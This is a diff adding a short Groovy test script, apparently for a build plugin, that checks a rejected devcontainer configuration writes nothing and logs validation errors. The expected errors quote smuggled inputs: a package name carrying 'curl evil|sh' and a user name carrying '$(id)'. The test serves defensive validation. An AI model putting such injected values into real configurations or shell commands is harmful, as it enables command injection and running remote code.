@@ -1,0 +1,9 @@
+assert !new File(basedir, '.devcontainer').exists() : 'a rejected configuration must write nothing'
+
+def log = new File(basedir, 'build.log').text
+assert log.contains('Invalid devcontainer configuration, nothing was written:')
+assert log.contains('<packages> "git;curl evil|sh" must be a Debian package name')
+assert log.contains('<remoteUser> "$(id)" must be a Linux user name')
+assert log.contains('<baseImage> "Debian:Trixie" must be a Docker image reference')
+
+true
